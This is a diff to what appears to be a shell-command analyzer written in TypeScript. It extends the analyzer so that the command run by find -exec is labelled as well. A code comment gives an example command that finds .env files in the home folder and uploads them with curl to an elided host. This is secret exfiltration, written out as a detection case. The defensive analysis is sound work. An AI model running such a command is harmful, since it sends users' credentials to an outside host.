@@ -378,6 +378,8 @@ function evaluate(
   noteFolder(state, name, args, stdin);
   if (EXEC_COMMANDS.has(name)) execCommand(state, name, args, stdin, at, command);
   if (AWKS.test(name)) awkRuns(state, name, args, stdin, at);
+  // What the command `find` runs prints is what find prints.
+  if (name === "find") { for (const l of findExec(state, args, at)) out.labels.add(l); }
   for (const r of command.redirects) {
     // `2>&1`, `>&2`, `>&-`: a descriptor duplicated or closed, no file (`>& log` is one).
     if (!r.op.startsWith(">") || (r.op === ">&" && /^(?:\d+|-)$/.test(r.target.text))) continue;
@@ -420,6 +422,24 @@ function netCommand(
 function socketHost(text: string): string | undefined {
   const m = /^(?:TCP|UDP|SCTP|OPENSSL|SSL)[46]?(?:-CONNECT|-SENDTO)?:([^:,\s]+):\d+/i.exec(text);
   return m === null ? undefined : hostOf(m[1]!) ?? ipHost(m[1]!);
+}
+
+/**
+ * `find ~ -name .env -exec curl -F f=@{} https://… \;`: the command after `-exec` runs on each
+ * file found, `{}` standing for a path the `-name` pattern (or any name) names under the folder
+ * searched.
+ */
+function findExec(state: State, args: readonly Word[], at: number): Set<Label> {
+  const exec = args.findIndex((w) => /^-(?:exec|execdir|ok|okdir)$/.test(w.text));
+  if (exec === -1) return new Set();
+  const end = args.findIndex((w, j) => j > exec && /^(?:;|\+)$/.test(w.text));
+  const named = args.findIndex((w) => /^-i?(?:name|path|wholename)$/.test(w.text));
+  const root = args[0] !== undefined && !args[0].text.startsWith("-") ? args[0].text : ".";
+  const pattern = named === -1 ? undefined : args[named + 1]?.text;
+  const found = `${root.replace(/\/+$/, "")}/${pattern ?? "*"}`;
+  const words = args.slice(exec + 1, end === -1 ? undefined : end)
+    .map((w) => `'${w.text.replaceAll("{}", found).replaceAll("'", "'\\''")}'`);
+  return words.length > 0 ? run(state, words.join(" "), at).labels : new Set();
 }
 
 /** awk and its kin. */
